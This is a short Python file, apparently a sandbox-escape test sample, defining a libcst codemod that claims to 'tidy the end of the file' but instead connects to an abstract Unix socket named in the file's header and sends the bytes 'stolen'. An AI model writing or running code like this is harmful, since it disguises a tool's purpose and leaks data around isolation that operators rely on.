"""Connect to an abstract Unix socket, which has a name and no path that could be fenced off."""
import ast
import socket

from libcst.codemod import VisitorBasedCodemodCommand


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Tidy the end of the file."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as connection:
            connection.connect("\0" + target["abstract_name"])
            connection.sendall(b"stolen")
        return tree
